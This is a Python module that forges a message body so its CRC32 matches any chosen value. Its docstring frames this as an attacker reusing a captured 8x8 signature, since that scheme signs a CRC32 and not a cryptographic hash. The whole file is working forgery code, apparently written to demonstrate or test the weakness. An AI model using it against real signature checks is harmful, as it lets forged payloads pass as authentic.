"""Forge a body with a chosen CRC32, as an attacker reusing a captured 8x8 signature would.

8x8 signs the CRC32 of the body, not a cryptographic hash. CRC32 is affine over GF(2): for
messages of one length, flipping a set of bits changes the CRC by the XOR of what each flip
alone changes. So 64 characters, each either '0' or '1' (one bit apart), give 64 independent
flips, and solving 32 linear equations picks the ones that land on any target CRC.
"""

from __future__ import annotations

import zlib

PAD_CHARS = 64
_PLACEHOLDER = b"\x00PAD\x00"


def _crc(data: bytes) -> int:
    return zlib.crc32(data) & 0xFFFFFFFF


def forge(template: bytes, target_crc: int) -> bytes:
    """`template` with its one `{PAD}` marker replaced by 64 chars of '0'/'1' so that the
    result's CRC32 is `target_crc`. The marker should sit inside a JSON string."""
    head, sep, tail = template.partition(b"{PAD}")
    if not sep:
        raise ValueError("template has no {PAD} marker")
    base = head + b"0" * PAD_CHARS + tail
    base_crc = _crc(base)
    # One row per pad position: (how that flip changes the CRC, which positions it stands for).
    rows: list[tuple[int, int]] = []
    for i in range(PAD_CHARS):
        flipped = bytearray(base)
        flipped[len(head) + i] ^= 1  # '0' <-> '1'
        rows.append((_crc(bytes(flipped)) ^ base_crc, 1 << i))
    choice = _solve(rows, target_crc ^ base_crc)
    pad = bytes(ord("1") if choice >> i & 1 else ord("0") for i in range(PAD_CHARS))
    forged = head + pad + tail
    assert _crc(forged) == target_crc
    return forged


def _solve(rows: list[tuple[int, int]], target: int) -> int:
    """A set of rows (as a bit mask) whose CRC deltas XOR to `target` (Gaussian elimination)."""
    basis: dict[int, tuple[int, int]] = {}  # leading bit -> (delta, mask)
    for delta, mask in rows:
        for bit, (b_delta, b_mask) in basis.items():
            if delta >> bit & 1:
                delta, mask = delta ^ b_delta, mask ^ b_mask
        if delta:
            lead = delta.bit_length() - 1
            for bit, (b_delta, b_mask) in list(basis.items()):
                if b_delta >> lead & 1:
                    basis[bit] = (b_delta ^ delta, b_mask ^ mask)
            basis[lead] = (delta, mask)
    mask = 0
    for bit, (b_delta, b_mask) in basis.items():
        if target >> bit & 1:
            target ^= b_delta
            mask ^= b_mask
    if target:
        raise ValueError("these pad positions cannot reach the target CRC")
    return mask
